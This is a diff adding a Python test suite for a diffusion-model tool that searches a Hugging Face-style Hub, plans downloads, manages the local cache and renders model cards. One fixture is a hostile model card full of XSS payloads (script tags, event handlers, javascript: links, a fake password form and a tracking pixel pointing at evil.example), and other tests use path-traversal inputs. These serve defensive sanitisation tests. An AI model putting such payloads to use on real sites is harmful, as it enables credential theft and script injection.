@@ -1,0 +1,492 @@
+"""Search, plans, cards, the local cache and the command line, against a local Hub."""
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from fakehub import FakeHub
+from huggingface_hub import constants
+
+from pipelines import cli
+from pipelines.download_plan import HubFile, make_plan
+from pipelines.downloads import PARTIAL, Downloads
+from pipelines.errors import HubError, OfflineError, PipelineError, RefusedError
+from pipelines.hub import PAGE, Hub, HubQuery, example_pictures, repo_folder
+from pipelines.local_models import (
+    LocalFolders,
+    cached_pipelines,
+    cached_revisions,
+    damaged_files,
+    delete_revisions,
+    forget_files,
+    freed_bytes,
+    leftovers,
+    local_details,
+    offered_models,
+)
+from pipelines.model_card import card_html, picture_path, picture_paths
+from pipelines.model_info import BUNDLED
+from pipelines.registry import Registry
+
+WAIT = 60
+PAGE_OF_CARD = "http://hub.example/ada/sd"
+INDEX = {"_class_name": "DDPMPipeline", "scheduler": ["diffusers", "DDPMScheduler"],
+         "unet": ["diffusers", "UNet2DModel"]}  # fmt: skip
+
+
+def small_repo(root: Path, name: str, weights: bytes = b"w" * 1000, index=INDEX) -> Path:
+    """A repository of the shape of a DDPM, with weights that nobody opens."""
+    folder = root / name
+    for part, config in (("unet", "config.json"), ("scheduler", "scheduler_config.json")):
+        (folder / part).mkdir(parents=True)
+        (folder / part / config).write_text("{}")
+    (folder / "unet" / "diffusion_pytorch_model.safetensors").write_bytes(weights)
+    (folder / "model_index.json").write_text(json.dumps(index))
+    return folder
+
+
+@pytest.fixture
+def fake(tmp_path):
+    """A Hub with a few models of every kind."""
+    root = tmp_path / "root"
+    small_repo(root, "ada/small")
+    small_repo(root, "ada/large", b"w" * 500_000)
+    small_repo(root, "grace/closed")
+    folder = small_repo(root, "grace/pickled")
+    (folder / "unet" / "diffusion_pytorch_model.safetensors").rename(
+        folder / "unet" / "diffusion_pytorch_model.bin")
+    small_repo(root, "kurt/film")
+    small_repo(root, "kurt/strange", index={**INDEX, "_class_name": "NobodysPipeline"})
+    with FakeHub(root) as fake:
+        fake.meta = {
+            "ada/small": {"downloads": 10, "likes": 3, "cardData": {"license": "mit"},
+                          "pipeline_tag": "unconditional-image-generation"},
+            "ada/large": {"downloads": 500, "likes": 1, "trendingScore": 9,
+                          "cardData": {"license": "apache-2.0", "base_model": "ada/small"}},
+            "grace/closed": {"gated": "manual"},
+            "kurt/film": {"pipeline_tag": "text-to-video"},
+            "kurt/strange": {"library_name": "odd"},
+        }  # fmt: skip
+        yield fake
+
+
+@pytest.fixture
+def hub(fake, tmp_path):
+    return Hub(fake.url, tmp_path / "cache", token=False)
+
+
+def found(hub, **query):
+    return [model.model_id for model in hub.search(HubQuery(**query)).page(1)]
+
+
+@pytest.mark.parametrize("query, expected", [
+    ({"text": "SMALL"}, ["ada/small"]),
+    ({"author": "grace"}, ["grace/closed", "grace/pickled"]),
+    ({"task": "text-to-video"}, ["kurt/film"]),
+    ({"library": "odd"}, ["kurt/strange"]),
+    ({"licence": "mit"}, ["ada/small"]),
+    ({"gated": True}, ["grace/closed"]),
+    ({"gated": False, "author": "grace"}, ["grace/pickled"]),
+    ({"base_model": "ada/small"}, ["ada/large"]),
+    ({"max_bytes": 10_000, "author": "ada"}, ["ada/small"]),
+    ({"text": "nothing of that name"}, []),
+])  # fmt: skip
+def test_each_filter_filters(hub, query, expected):
+    assert sorted(found(hub, **query)) == expected
+
+
+@pytest.mark.parametrize("sort, first", [
+    ("trending", "ada/large"), ("downloads", "ada/large"), ("likes", "ada/small"),
+])  # fmt: skip
+def test_results_are_sorted(hub, sort, first):
+    assert found(hub, author="ada", sort=sort)[0] == first
+
+
+def test_a_result_says_what_one_wants_to_know(hub):
+    models = {model.model_id: model for model in hub.search(HubQuery(library=None)).page(1)}
+    small = models["ada/small"]
+    assert (small.pipeline_class, small.task, small.licence, small.downloads, small.here) == (
+        "DDPMPipeline", "unconditional-image-generation", "mit", 10, "no")
+    assert small.obstacle is None and small.safetensors and small.gated is None
+    assert small.size_bytes == hub.details("ada/small").plan.size_bytes > 1000
+    assert models["ada/large"].base_models == ("ada/small",)
+    assert models["grace/closed"].gated == "manual"
+    assert "pickle" in models["grace/pickled"].obstacle
+    assert not models["grace/pickled"].safetensors
+    assert "text-to-video" in models["kurt/film"].obstacle
+    assert "NobodysPipeline" in models["kurt/strange"].obstacle
+
+
+def test_pages_follow_the_link_of_the_one_before(fake, hub):
+    for number in range(2 * PAGE + 3):
+        folder = fake.root / "many" / f"m{number:02d}"
+        folder.mkdir(parents=True)
+        (folder / "a.safetensors").write_bytes(b"1")
+    search = hub.search(HubQuery(author="many"))
+    pages = [[model.model_id for model in search.page(number)] for number in (1, 2, 3)]
+    assert [len(page) for page in pages] == [PAGE, PAGE, 3]
+    assert len({name for page in pages for name in page}) == 2 * PAGE + 3
+    assert search.has_more(1) and search.has_more(2) and not search.has_more(3)
+    assert len(fake.fetched("/api/models?")) == 3
+
+
+def test_a_foreign_next_page_is_not_followed(fake, hub):
+    search = hub.search(HubQuery())
+    assert search._own("http://evil.example/api/models?cursor=1").startswith(fake.url)
+
+
+@pytest.mark.parametrize("fault, words", [
+    ({"status": 429, "headers": {"Retry-After": "30"}}, "429.*in 30 s"),
+    ({"status": 500}, "trouble of its own .500"),
+    ({"status": 403}, "token lacks the right"),
+    ({"status": 401}, "refused the token"),
+    ({"status": 418}, "answered 418"),
+])
+def test_what_the_hub_answers_is_said_in_words(fake, hub, fault, words):
+    fake.fault("/api/models", **fault)
+    with pytest.raises(HubError, match=words):
+        found(hub)
+
+
+def test_an_answer_that_is_no_json_is_an_error_in_words(fake, hub, monkeypatch):
+    monkeypatch.setattr(fake, "info", lambda *_: {"no": "id"} | {
+        "id": "x/y", "author": "x", "tags": [], "gated": False, "pipeline_tag": "",
+        "trendingScore": 0, "siblings": [{}]})
+    with pytest.raises(HubError, match="cannot be read"):
+        found(hub, library=None)
+
+
+def test_strange_and_missing_ids(hub):
+    for name, words in (("no/such", "is not on 127"), ("a b/c?", "organisation/name"),
+                        ("../../etc", "organisation/name")):
+        with pytest.raises(HubError, match=words):
+            hub.details(name)
+
+
+def test_no_connection_is_said_within_seconds(tmp_path):
+    hub = Hub("http://127.0.0.1:9", tmp_path)
+    assert "no connection to 127.0.0.1:9" in hub.problem()
+    with pytest.raises(OfflineError):
+        hub.details("ada/small")
+
+
+def test_offline_by_choice_asks_nobody(fake, hub, monkeypatch):
+    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)
+    assert "HF_HUB_OFFLINE is set" in hub.problem()
+    assert fake.asked == []
+
+
+def test_a_token_is_named_and_never_shown(fake, tmp_path, monkeypatch):
+    monkeypatch.setenv("HF_TOKEN", "hf_secret")
+    hub = Hub(fake.url, tmp_path)
+    assert hub.has_token()
+    with pytest.raises(HubError, match="refused the token") as error:
+        hub.account()
+    assert "hf_secret" not in str(error.value)
+    fake.accounts["hf_secret"] = "ada"
+    assert hub.account() == "ada"
+    assert "hf_secret" not in repr(hub.search(HubQuery()).page(1))
+
+
+# --- plans
+
+
+def files(*paths):
+    return [HubFile(path, 10, "a" * 40) for path in paths]
+
+
+def planned(*paths, index=INDEX, **options):
+    plan = make_plan("a/b", "main", "c" * 40, files("model_index.json", *paths), index, **options)
+    return [file.path for file in plan.files]
+
+
+UNET = "unet/config.json", "scheduler/scheduler_config.json"
+
+
+def test_shards_come_with_their_index_and_without_other_variants():
+    shards = [f"unet/diffusion_pytorch_model-0000{n}-of-00002.safetensors" for n in (1, 2)]
+    half = [f"unet/diffusion_pytorch_model.fp16-0000{n}-of-00002.safetensors" for n in (1, 2)]
+    old = [f"unet/model-0000{n}-of-00002.bf16.safetensors" for n in (1, 2)]
+    listing = "unet/diffusion_pytorch_model.safetensors.index.json"
+    every = [*UNET, *shards, *half, listing, listing.replace(".json", ".fp16.json"), *old,
+             "unet/model.safetensors.index.bf16.json"]
+    assert {*shards, listing} < set(planned(*every)) and not {*half, *old} & set(planned(*every))
+    assert {*half, listing.replace(".json", ".fp16.json")} < set(planned(*every, variant="fp16"))
+    assert set(old) < set(planned(*every, variant="bf16"))
+
+
+def test_one_file_is_preferred_to_its_shards():
+    one = "unet/diffusion_pytorch_model.safetensors"
+    shard = "unet/diffusion_pytorch_model-00001-of-00001.safetensors"
+    assert shard not in planned(*UNET, one, shard, f"{one}.index.json")
+
+
+def test_the_only_variant_is_taken_without_asking():
+    half = "unet/diffusion_pytorch_model.fp16.safetensors"
+    assert half in planned(*UNET, half)
+
+
+@pytest.mark.parametrize("paths, index, words", [
+    (UNET, {**INDEX, "_class_name": ["mine", "Pipe"]}, "code of its own"),
+    (UNET, {**INDEX, "unet": ["mine", "UNet"]}, "own code is never run"),
+    (UNET[1:], INDEX, "names unet, but there is no such folder"),
+    (UNET, INDEX, "no safetensors by a name that diffusers reads"),
+    ((*UNET, "unet/weights.safetensors"), INDEX, "no safetensors by a name"),
+    ((*UNET, "unet/model.onnx"), INDEX, "only as ONNX"),
+    ((*UNET, "unet/flax_model.msgpack"), INDEX, "only as Flax"),
+    ((*UNET, "unet/diffusion_pytorch_model.ckpt"), INDEX, "pickle"),
+])
+def test_what_cannot_be_opened_is_refused_with_the_reason(paths, index, words):
+    with pytest.raises(RefusedError, match=words):
+        planned(*paths, index=index)
+
+
+def test_repositories_without_a_pipeline_say_what_they_are():
+    for paths, words in ((["config.json", "model.safetensors"], "single component"),
+                         (["a.ckpt"], "pickle"), (["README.md"], "no diffusion pipeline")):
+        with pytest.raises(RefusedError, match=words):
+            make_plan("a/b", "main", "c" * 40, files(*paths), None)
+
+
+def test_only_the_configs_for_a_single_file_from_elsewhere():
+    weights = "unet/diffusion_pytorch_model.safetensors"
+    got = planned(*UNET, weights, f"{weights}.index.json", configs_only=True)
+    assert got == ["model_index.json", "scheduler/scheduler_config.json", "unet/config.json"]
+
+
+@pytest.mark.parametrize("path", ["../evil.safetensors", "/etc/x.safetensors",
+                                  "a/../../x.safetensors", "c:\\x.safetensors"])
+def test_a_file_that_would_leave_the_cache_is_refused(path):
+    with pytest.raises(RefusedError, match="cannot be stored"):
+        make_plan("a/b", "main", "c" * 40, files(path), None)
+    with pytest.raises(RefusedError, match="cannot be stored"):
+        make_plan("a/b", "main", "c" * 40, [HubFile("x.safetensors", 1, "../../x")], None)
+
+
+# --- cards
+
+
+HOSTILE = """---
+license: mit
+---
+# Card
+<script>document.title = 'owned'</script>
+<form action="https://evil.example"><input name="password"><button>Log in</button></form>
+<img src="images/own.png" onerror="document.title='owned'" alt="own">
+
+![tracker](https://evil.example/pixel.gif?reader=1)
+
+<img src="//evil.example/p.png"><img src="http://hub.example/eve/sd/resolve/main/p.png">
+[click](javascript:alert(1)) <a href=" java&#9;script:alert(1)">a</a>
+<a href="vbscript:x">b</a> <a href="data:text/html,<script>">c</a>
+<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">
+<style>* { display: none }</style><div style="position: fixed" id="stApp" class="cs-notice">d</div>
+<svg onload="alert(1)"></svg><math><mi xlink:href="javascript:x">m</mi></math>
+<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">
+<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>
+
+[docs](docs/use.md) and [elsewhere](https://ok.example/page)
+"""
+
+
+def test_a_hostile_card_is_harmless():
+    html = card_html(HOSTILE, PAGE_OF_CARD, lambda path: f"/media/{path}")
+    for bad in ("<script", "onerror", "onload", "<form", "<input", "<button", "<iframe", "<style",
+                "style=", "id=", "class=", "<svg", "<meta", "<base", "<video", "<object", "<embed",
+                "href=\"java", "vbscript", "href=\"data", "src=\"http", "src=\"//", "pixel.gif",
+                "password", "owned"):  # fmt: skip
+        assert bad not in html, bad
+    assert '<img src="/media/images/own.png" alt="own">' in html
+    assert "[picture: tracker, not loaded]" in html
+    assert f'href="{PAGE_OF_CARD}/blob/main/docs/use.md"' in html
+    assert 'href="https://ok.example/page" target="_blank" rel="noopener noreferrer nofollow"' \
+        in html
+    assert "license: mit" not in html
+
+
+def test_only_pictures_of_the_repository_itself_are_asked_for():
+    assert picture_paths(HOSTILE, PAGE_OF_CARD) == ["images/own.png"]
+    base = f"{PAGE_OF_CARD}/resolve/main"
+    assert picture_path(f"{base}/a%20b.png", PAGE_OF_CARD) == "a b.png"
+    for other in ("https://hub.example/ada/sd/resolve/main/x.png", f"{PAGE_OF_CARD}2/x.png",
+                  "http://hub.example/ada/sd-evil/resolve/main/x.png", "data:image/png;base64,x",
+                  "file:///etc/passwd", "../../../x.png"):  # fmt: skip
+        assert picture_path(other, PAGE_OF_CARD) is None, other
+
+
+def test_tables_and_code_of_a_card_are_shown():
+    html = card_html("| a | b |\n|---|---|\n| 1 | `x<y` |\n")
+    assert "<td>1</td>" in html and "<code>x&lt;y</code>" in html
+
+
+def test_pictures_are_fetched_by_us_and_made_small(fake, hub):
+    from PIL import Image
+
+    folder = fake.root / "ada" / "small" / "images"
+    folder.mkdir()
+    Image.new("RGB", (3000, 1500), "red").save(folder / "b.png")
+    (folder / "a.png").write_bytes(b"no picture at all")
+    fake.meta["ada/small"]["cardData"]["widget"] = [
+        {"text": "a cat", "output": {"url": "images/b.png"}}, {"text": "x", "output": None}, "odd"]
+    details = hub.details("ada/small")
+    assert example_pictures(details) == ["images/b.png", "images/a.png"]
+    pictures = hub.pictures(details, example_pictures(details))
+    assert list(pictures) == ["images/b.png"]
+    assert len(pictures["images/b.png"]) < 100_000
+
+
+# --- this machine
+
+
+def fetched(hub, model_id):
+    download = Downloads().start(hub, hub.details(model_id).plan)
+    assert download.finished.wait(WAIT) and download.status == "done", download.error
+    return download
+
+
+def test_the_cache_is_listed_by_revision_and_deleted_with_what_it_frees(fake, hub):
+    fetched(hub, "ada/large")
+    (fake.root / "ada" / "large" / "unet" / "config.json").write_text('{"changed": true}')
+    fetched(hub, "ada/large")
+    fetched(hub, "ada/small")
+    revisions = cached_revisions(hub.cache_dir)
+    assert [(r.model_id, r.refs, r.is_pipeline) for r in revisions] == [
+        ("ada/large", ("main",), True), ("ada/large", (), True), ("ada/small", ("main",), True)]
+    new, old, _ = revisions
+    assert new.size_bytes > 500_000
+    assert 0 < new.freed_bytes < 1000  # the weights belong to both
+    both = freed_bytes(hub.cache_dir, [new.commit, old.commit])
+    assert both > 500_000
+    assert delete_revisions(hub.cache_dir, [new.commit, old.commit]) == both
+    assert cached_pipelines(hub.cache_dir) == ["ada/small"]
+    with pytest.raises(PipelineError, match="not in"):
+        delete_revisions(hub.cache_dir, [new.commit])
+    assert cached_revisions(hub.cache_dir / "nowhere") == []
+
+
+def test_damage_is_found_by_checksum_and_mended(fake, hub):
+    fetched(hub, "ada/small")
+    (revision,) = cached_revisions(hub.cache_dir)
+    assert damaged_files(revision) == []
+    weights = revision.folder / "unet" / "diffusion_pytorch_model.safetensors"
+    weights.resolve().write_bytes(b"v" * 1000)  # the size is right
+    assert damaged_files(revision) == ["unet/diffusion_pytorch_model.safetensors"]
+    forget_files(revision, damaged_files(revision))
+    assert hub.details("ada/small").model.here == "partly"
+    fetched(hub, "ada/small")
+    assert damaged_files(cached_revisions(hub.cache_dir)[0]) == []
+
+
+def test_folders_are_registered_and_offered(tmp_path):
+    registry, folders = Registry("cpu"), LocalFolders(tmp_path)
+    for name in ("one", "two"):
+        shutil.copytree(BUNDLED["postcards"], tmp_path / "many" / name)
+    one, two = (str(tmp_path / "many" / name) for name in ("one", "two"))
+    assert folders.add(one, registry) == [one]
+    assert folders.add(str(tmp_path / "many"), registry) == [two]
+    assert offered_models(tmp_path, tmp_path / "cache") == ["postcards", one, two]
+    assert local_details(registry, one).model.pipeline_class == "StableDiffusionPipeline"
+    folders.remove(one)
+    assert LocalFolders(tmp_path).paths() == [two]
+    for text in ("", "no/such/folder", str(tmp_path), "~nobody-here/x", "a\0b"):
+        with pytest.raises(PipelineError):
+            folders.add(text, registry)
+    folders.path.write_text("[")
+    with pytest.raises(PipelineError, match="cannot be read"):
+        folders.paths()
+
+
+def test_the_bundled_model_has_files_config_and_card(hub):
+    details = local_details(Registry("cpu"), "postcards")
+    assert (details.model.source, details.model.here) == ("bundled", "yes")
+    assert details.index["_class_name"] == "StableDiffusionPipeline"
+    assert "postcards" in hub.card_text(details).lower()
+    with pytest.raises(HubError, match="outside"):
+        hub.content(details, "../../errors.py")
+
+
+# --- the command line
+
+
+@pytest.fixture
+def run(fake, tmp_path, monkeypatch, capsys):
+    """Run a command line in this process; gives back exit code, output, errors."""
+    monkeypatch.setenv("HF_ENDPOINT", fake.url)
+    monkeypatch.delenv("HF_TOKEN", raising=False)
+    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(tmp_path / "cache"))
+    monkeypatch.setattr(constants, "HF_TOKEN_PATH", str(tmp_path / "no-token"))
+
+    def call(*arguments):
+        with pytest.raises(SystemExit) as ended:
+            cli.main(["hub", *arguments])
+        captured = capsys.readouterr()
+        return ended.value.code, captured.out, captured.err
+
+    return call
+
+
+def test_search_on_the_command_line(run):
+    code, out, _ = run("search", "small", "--task", "unconditional-image-generation", "--json")
+    (model,) = json.loads(out)
+    assert (code, model["model_id"], model["obstacle"]) == (0, "ada/small", None)
+    assert "grace/pickled" in run("search", "--author", "grace")[1]
+    assert "No model fits" in run("search", "nobody")[1]
+    assert [m["model_id"] for m in json.loads(run("search", "--max-gb", "0.0001", "--author", "ada",
+                                                  "--json")[1])] == ["ada/small"]
+
+
+def test_download_and_cache_on_the_command_line(run, tmp_path):
+    assert "No model in" in run("cache")[1]
+    code, out, _ = run("download", "ada/small", "--json")
+    record = json.loads(out)
+    assert code == 0 and (Path(record["folder"]) / "model_index.json").exists()
+    listed = json.loads(run("cache", "--check", "--json")[1])["revisions"]
+    assert [(r["model_id"], r["damaged"]) for r in listed] == [("ada/small", [])]
+    code, _, err = run("cache", "--delete", "123456")
+    assert code == 2 and "begins 0 commits" in err
+    code, _, err = run("cache", "--delete", record["commit"][:8])
+    assert code == 2 and "Say --yes" in err
+    code, out, _ = run("cache", "--delete", record["commit"][:8], "--yes")
+    assert code == 0 and "free again" in out
+    assert json.loads(run("cache", "--json")[1])["revisions"] == []
+
+
+@pytest.mark.parametrize("arguments, words", [
+    (("download", "grace/pickled"), "pickle"),
+    (("download", "no/such"), "is not on"),
+    (("download", "grace/closed"), "accept its conditions"),
+    (("download", "ada/small", "--variant", "fp16"), "accepted none (plain weights)"),
+    (("download", "ada/small", "--revision", "elsewhere"), "no 'elsewhere'"),
+    (("download", "ada/small", "--file", "x.safetensors"), "accepted a .safetensors file"),
+    (("search", "--sort", "beauty"), "beauty"),
+])  # fmt: skip
+def test_bad_input_is_one_line_and_exit_code_2(run, arguments, words):
+    code, out, err = run(*arguments)
+    assert code == 2 and words in err and err.count("\n") == 1 and out == ""
+
+
+def test_a_broken_off_download_is_listed_and_deleted(fake, run, hub, monkeypatch):
+    monkeypatch.setattr("pipelines.downloads.TRIES", 0)
+    fake.fault("/blobs/.*large", cut=1000)
+    code, _, err = run("download", "ada/large")
+    assert code == 2 and "what is here is kept" in err
+    assert leftovers(hub.cache_dir) == {"ada/large": 1000}
+    assert "unfinished: ada/large" in run("cache")[1]
+    assert run("cache", "--delete-partial", "--yes")[0] == 0
+    assert not list(repo_folder(hub.cache_dir, "ada/large").rglob(f"*{PARTIAL}"))
+
+
+def test_a_process_of_its_own_takes_endpoint_and_cache_from_the_environment(fake, tmp_path):
+    environment = {**os.environ, "HF_ENDPOINT": fake.url, "HF_HOME": str(tmp_path / "hf")}
+    run = [sys.executable, "-m", "pipelines", "hub"]
+    done = subprocess.run([*run, "download", "ada/small", "--json"], env=environment,
+                          capture_output=True, text=True, check=True)
+    assert str(tmp_path / "hf" / "hub") in json.loads(done.stdout)["folder"]
+    offline = subprocess.run([*run, "download", "ada/small"], capture_output=True, text=True,
+                             env={**environment, "HF_HUB_OFFLINE": "1"})
+    assert offline.returncode == 2
+    assert "HF_HUB_OFFLINE is set" in offline.stderr and offline.stderr.count("\n") == 1
